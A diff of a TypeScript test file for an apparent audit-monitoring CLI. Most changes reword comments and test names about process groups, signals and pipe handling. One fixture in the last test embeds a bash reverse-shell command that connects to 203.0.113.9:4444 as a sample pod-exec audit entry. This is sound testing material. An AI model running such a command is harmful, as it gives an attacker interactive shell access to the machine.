@@ -15,7 +15,7 @@ const BIN = join(ROOT, 'cli', 'firebreak.mjs');
 
 type Started = { child: ChildProcess; ended: Promise<{ code: number | null; out: string; err: string }> };
 
-/** A command in a process group of its own, as a shell starts one. */
+/** Starts a command in its own process group, as a shell does. */
 const start = (
   args: readonly string[],
   options: { cwd: string; bin?: string; env?: Record<string, string> },
@@ -34,10 +34,10 @@ const start = (
   return { child, ended };
 };
 
-/** Ctrl-C at a terminal: to the whole group. */
+/** Ctrl-C at a terminal: the signal goes to the whole group. */
 const interrupt = ({ child }: Started): void => void process.kill(-(child.pid ?? 0), 'SIGINT');
 
-/** The processes below one, at whatever depth. */
+/** All descendants of a process. */
 const below = (pid: number): number[] => {
   const rows = execFileSync('ps', ['-A', '-o', 'pid=,ppid='])
     .toString('utf8')
@@ -132,7 +132,7 @@ describe('the command at a terminal', function () {
     assert.deepEqual(await readdir(folder), []);
   });
 
-  it('says of a stack that was killed that it does not run any more', async () => {
+  it('reports that a stack that was killed is no longer running', async () => {
     const noProcess = 2 ** 22 + 1;
     const file = { project: 'p1', bus: 'http://127.0.0.1:1', store: join(cwd, 'none'), pid: noProcess };
     await cp(join(ROOT, 'config'), join(cwd, '.firebreak'), { recursive: true });
@@ -145,7 +145,7 @@ describe('the command at a terminal', function () {
     );
   });
 
-  it('ends quietly when `head -1` has what it wanted', async () => {
+  it('ends quietly when `head -1` closes the pipe', async () => {
     const exec = { verb: 'create', resource: 'pods', subresource: 'exec', namespace: 'shop', name: 'cart-0' };
     const line = JSON.stringify(auditEntry({ ...exec, command: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1' }));
     await writeFile(join(cwd, 'many.ndjson'), `${line}\n`.repeat(3000));
